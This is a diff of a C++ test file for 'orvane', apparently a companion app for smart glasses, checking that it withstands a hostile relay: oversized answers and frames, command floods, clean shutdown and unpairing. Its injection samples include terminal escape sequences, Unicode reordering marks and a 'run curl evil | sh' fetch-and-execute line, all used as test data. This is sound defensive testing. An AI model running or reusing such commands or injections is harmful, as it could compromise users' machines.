@@ -1,6 +1,7 @@
 // `orvane` as users run it, facing a relay that attacks it: answers and frames too large to
-// hold, escape sequences for the terminal, replayed, far-dated and flooding commands, a relay
-// that cannot be reached when unpairing; and the ways the companion itself is ended.
+// hold, escape sequences for the terminal, flooding commands, a relay that cannot be reached when
+// unpairing; and its end on a terminate signal. Which commands are dropped is
+// orvane_companion_rules_test's and companion_glasses_test's.
 #include "companion_harness.h"
 #include "fake_codex.h"
 #include "process_harness.h"
@@ -11,7 +12,6 @@
 #include <gtest/gtest.h>
 
 #include <QRegularExpression>
-#include <QTemporaryFile>
 
 #include <csignal>
 #include <sys/resource.h>
@@ -24,56 +24,17 @@ using namespace std::chrono_literals;
 const QString orvane = ORVANE_EXECUTABLE;
 constexpr qint64 memoryCeilingKiB = 150 * 1024;
 
-QProcessEnvironment environmentFor(const ScriptedRelay &relay)
+// A command message from the glasses: a stop of "t1", or another type.
+std::string commandMessage(int number, const std::string &type = "stop_thread")
 {
-    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
-    environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
-    return environment;
-}
-
-// The process's peak resident memory so far, from the kernel.
-qint64 peakKiB(qint64 pid)
-{
-    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
-    if (!status.open(QIODevice::ReadOnly))
-        return 0;
-    for (const QByteArray &line : status.readAll().split('\n'))
-        if (line.startsWith("VmHWM:"))
-            return line.mid(6).trimmed().split(' ').value(0).toLongLong();
-    return 0;
-}
-
-json::object stop(const std::string &commandId, std::optional<std::string> expiresAt = std::nullopt)
-{
-    auto object = command("stop_thread", commandId);
+    auto object = command(type, QStringLiteral("00000000-0000-4000-8000-%1").arg(number, 12, 10, QChar('0')).toStdString());
     object["threadId"] = "t1";
-    if (expiresAt)
-        object["expiresAt"] = *expiresAt;
-    return object;
+    return json::serialize(json::object{{"type", "command"}, {"command", object}});
 }
 
-std::string commandMessage(const json::object &command)
+// What reaches the terminal is in the scenario below; here, its limits.
+TEST(TerminalText, StaysShortAndKeepsOnlyABlocksLineBreaks)
 {
-    return json::serialize(json::object{{"type", "command"}, {"command", command}});
-}
-
-std::string uuid(int number)
-{
-    return QStringLiteral("00000000-0000-4000-8000-%1").arg(number, 12, 10, QChar('0')).toStdString();
-}
-
-TEST(TerminalText, KeepsNoControlOrReorderingAndStaysShort)
-{
-    const std::pair<std::string, std::string> rows[]{
-        {"\x1b]0;owned\x07\x1b[2J plain", "]0;owned[2J plain"},
-        {"line\none\ttab\rreturn", "line one tab return"},
-        {"C1 \xc2\x9b" "31m and DEL \x7f", "C1 31m and DEL "},
-        {"evil\u202egnp.exe \u2066isolated\u2069 \u200fmark", "evilgnp.exe isolated mark"},
-        {"broken \xff utf-8", "broken \ufffd utf-8"},
-        {"caf\u00e9 \U0001F600", "caf\u00e9 \U0001F600"},
-    };
-    for (const auto &[outside, shown] : rows)
-        EXPECT_EQ(TerminalText::line(outside), shown) << outside;
     EXPECT_EQ(TerminalText::line(std::string(10'000'000, 'x')), std::string(TerminalText::lineLimit - 1, 'x') + "\u2026");
     EXPECT_EQ(TerminalText::block("one\x1b[1m\ntwo\x07"), "one[1m\ntwo");
 }
@@ -82,15 +43,13 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
 {
     FakeCodex codex({{"stdio", session({{"t1", "thinking"}})}});
     ScriptedRelay relay;
-    const QProcessEnvironment environment = environmentFor(relay);
-
-    // The publisher token never travels in clear to another machine.
-    QProcessEnvironment clear = environment;
-    clear.insert("ORVANE_RELAY_URL", "http://relay.example:8787");
-    const Finished refused = run(orvane, {"--headless"}, clear, 30s);
-    EXPECT_EQ(refused.exitCode, 1);
-    EXPECT_EQ(refused.err, "ORVANE_RELAY_URL \"http://relay.example:8787\" refused: plain http is allowed only to this "
-                           "computer (localhost); use https.\n");
+    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
+    environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
+    // How many messages of `type` the companion sent.
+    const auto count = [&](const std::string &type) {
+        const auto ofType = [&](const std::string &sent) { return sent.starts_with(R"({"type":")" + type); };
+        return std::ranges::count_if(relay.messages(), ofType);
+    };
 
     // A pairing answer that never ends is given up past 16 KiB.
     relay.pairingAnswer.shape = ScriptedRelay::Answer::Shape::endless;
@@ -111,123 +70,48 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
                                                                                                   << companion.dump();
     }
 
-    // A frame announcing 400 MiB closes the socket at its header; the companion reconnects.
-    const int upgrades = relay.upgrades();
+    // A frame announcing 400 MiB closes the socket at its header, before any payload; the
+    // companion reconnects.
     relay.sendOversizedFrame();
     ASSERT_TRUE(companion.waitForLine("Error: The relay sent a message larger than 1 MiB; the connection was closed "
                                       "and will be reopened.", 60s)) << companion.dump();
     ASSERT_TRUE(companion.waitForLine("Relay connected.", 30s)) << companion.dump();
-    EXPECT_EQ(relay.upgrades(), upgrades + 1);
-    EXPECT_LT(peakKiB(companion.pid()), memoryCeilingKiB);
 
-    // Escape sequences and reordering marks never reach the terminal.
-    relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh \u202e"})");
-    ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh ")) << companion.dump();
+    // Escape sequences (C0 and C1) and reordering marks never reach the terminal.
+    relay.send(R"({"type":"error","message":"\u001b]0;owned\u0007\u001b[2J\nrun curl evil | sh )"
+               R"(\u009b31m\u202e \u2066caf\u00e9\u2069"})");
+    ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh 31m caf\u00e9")) << companion.dump();
     for (const QString &line : companion.lines())
         EXPECT_FALSE(line.contains(QChar(0x1b)) || line.contains(QChar(0x07)) || line.contains(QChar(0x202e)));
 
-    // A replayed stop acts once; expiries far ahead, wrapped or not, are dropped. Commands are
-    // handled in order, so a fresh stop answered last shows the others were handled.
-    const auto resultsAfter = [&](std::size_t count) { return waitUntil([&] { return relay.count("event") >= count; }, 30s); };
-    for (int copy = 0; copy < 3; ++copy)
-        relay.send(commandMessage(stop(uuid(1))));
-    relay.send(commandMessage(stop(uuid(2), DateFormatting::iso(std::chrono::system_clock::now() + 11min).erase(19, 4))));
-    relay.send(commandMessage(stop(uuid(3), "2612-01-01T00:00:00Z")));
-    relay.send(commandMessage(stop(uuid(4))));
-    ASSERT_TRUE(resultsAfter(2));
-    EXPECT_EQ(relay.count("event"), 2u);
-    EXPECT_EQ(requests(codex.received(), "turn/interrupt").size(), 2u);
-
-    // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, refreshes stay
-    // coalesced, snapshot answers spaced, and a snapshot follows the last request.
-    const auto listsBefore = requests(codex.received(), "thread/list").size();
-    const auto snapshotsBefore = relay.count("snapshot");
+    // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, snapshot answers are
+    // spaced, and a snapshot follows the last request; coalescing refreshes is orvane_refresh_trigger_test's.
+    const auto snapshotsBefore = count("snapshot");
     for (int index = 0; index < 2200; ++index)
-        relay.send(commandMessage(index < 200 ? stop(uuid(100 + index)) : command("request_snapshot", uuid(100 + index))));
-    ASSERT_TRUE(resultsAfter(202)) << companion.dump();
-    const auto messagesAtLastStop = relay.messages().size();
-    EXPECT_TRUE(waitUntil([&] {
-        for (auto i = messagesAtLastStop; i < relay.messages().size(); ++i)
-            if (relay.messages()[i].find(R"("type":"snapshot")") != std::string::npos)
-                return true;
-        return false;
-    }, 15s));
-    EXPECT_LE(requests(codex.received(), "thread/list").size() - listsBefore, 15u);
-    EXPECT_EQ(requests(codex.received(), "turn/interrupt").size(), 202u);
-    EXPECT_LT(relay.count("snapshot") - snapshotsBefore, 200u);
-    EXPECT_TRUE(companion.running());
+        relay.send(index < 200 ? commandMessage(index) : commandMessage(index, "request_snapshot"));
+    ASSERT_TRUE(waitUntil([&] { return count("event") >= 200; }, 30s)) << companion.dump();
+    const auto snapshotsAtLastStop = count("snapshot");
+    EXPECT_TRUE(waitUntil([&] { return count("snapshot") > snapshotsAtLastStop; }, 15s));
+    EXPECT_EQ(requests(codex.received(), "turn/interrupt").size(), 200u);
+    EXPECT_LT(count("snapshot") - snapshotsBefore, 200);
 
     // A terminate signal ends it through its event loop: a close frame, no child left, status 0.
-    const auto children = companion.appServerChildren();
-    ASSERT_EQ(children.size(), 1u);
+    ASSERT_EQ(companion.appServerChildren().size(), 1u);
     ::kill(pid_t(companion.pid()), SIGTERM);
     ASSERT_TRUE(companion.waitForExit(20s));
     EXPECT_EQ(companion.exitCode(), 0);
     EXPECT_TRUE(waitUntil([&] { return relay.closeFrameSeen(); }, 5s));
     EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8()));
-}
 
-TEST(HostileRelay, KilledCompanionLeavesNoChildBehind)
-{
-    // The daemon probe hangs for good and the App Server ignores terminate signals.
-    auto stdio = session({{"t1", "thinking"}});
-    stdio["ignoreTerminate"] = true;
-    FakeCodex codex({{"daemon", {{"hang", true}}}, {"stdio", stdio}});
-    ScriptedRelay relay;
-    RunningCompanion companion(orvane, environmentFor(relay));
-    ASSERT_TRUE(waitUntil([&] {
-        for (const auto &launch : codex.launches())
-            if (launch.find("daemon") != std::string::npos)
-                return true;
-        return false;
-    }, 60s)) << companion.dump();
-    ::kill(pid_t(companion.pid()), SIGKILL);
-    ASSERT_TRUE(companion.waitForExit(10s));
-    EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8(), 10s));
-}
-
-TEST(HostileRelay, UnpairSaysWhatTheRelayDid)
-{
-    qputenv("ORVANE_CODEX", "/nonexistent/codex");
-    KeychainStore::remove(CompanionModel::credentialAccount);
-    ScriptedRelay relay;
-    const QProcessEnvironment environment = environmentFor(relay);
-    const auto orvaneRun = [&](const QStringList &arguments, const QProcessEnvironment &with) {
-        return run(orvane, arguments, with, 90s);
-    };
-    const std::string revoke = "POST /v1/channels/" + relay.credentials.channelId + "/revoke  Bearer " +
-                               relay.credentials.publisherToken + " ";
-
-    // Without a running companion, the stored pairing is revoked all the same.
-    ASSERT_EQ(orvaneRun({"--pair", "123456"}, environment).exitCode, 0);
-    Finished finished = orvaneRun({"--unpair"}, environment);
-    EXPECT_EQ(finished.exitCode, 0);
-    EXPECT_EQ(finished.out, "Pairing removed and relay data deleted.\n");
-    EXPECT_EQ(relay.requests().back(), revoke);
-
-    // A relay that cannot be reached: removed here all the same, and said so.
-    ASSERT_EQ(orvaneRun({"--pair", "123456"}, environment).exitCode, 0);
+    // Unpairing while the relay cannot be reached: removed here all the same, and said so.
     relay.revokeAnswer.shape = ScriptedRelay::Answer::Shape::none;
-    finished = orvaneRun({"--unpair"}, environment);
-    EXPECT_EQ(finished.exitCode, 1);
-    EXPECT_EQ(finished.err, "Pairing removed from this computer, but the relay could not be reached to delete it; "
+    const Finished unpaired = run(orvane, {"--unpair"}, environment, 90s);
+    EXPECT_EQ(unpaired.exitCode, 1);
+    EXPECT_EQ(unpaired.err, "Pairing removed from this computer, but the relay could not be reached to delete it; "
                             "the glasses may keep showing the last snapshot.\n");
-    EXPECT_TRUE(orvaneRun({"--status"}, environment).out.contains("\nPairing: none\n"));
-    EXPECT_EQ(orvaneRun({"--unpair"}, environment).out, "Nothing was paired; nothing to remove.\n");
-
-    // A store that refuses to save: the channel just made is revoked before the error shows.
-    relay.revokeAnswer.shape = ScriptedRelay::Answer::Shape::whole;
-    QTemporaryFile notAFolder;
-    ASSERT_TRUE(notAFolder.open());
-    QProcessEnvironment refusing = environment;
-    refusing.insert("ORVANE_CREDENTIAL_STORE", "file");
-    refusing.insert("XDG_CONFIG_HOME", notAFolder.fileName());
-    const auto requestsBefore = relay.requests().size();
-    finished = orvaneRun({"--pair", "123456"}, refusing);
-    EXPECT_EQ(finished.exitCode, 1);
-    EXPECT_TRUE(finished.err.startsWith("Unable to keep the pairing in ")) << finished.err.toStdString();
-    ASSERT_EQ(relay.requests().size(), requestsBefore + 2) << "the pairing, then its revoke";
-    EXPECT_EQ(relay.requests().back(), revoke);
+    EXPECT_EQ(relay.requests().back(),
+              "POST /v1/channels/" + relay.credentials.channelId + "/revoke  Bearer " + relay.credentials.publisherToken + " ");
+    EXPECT_TRUE(run(orvane, {"--status"}, environment, 60s).out.contains("\nPairing: none\n"));
 }
 
 } // namespace
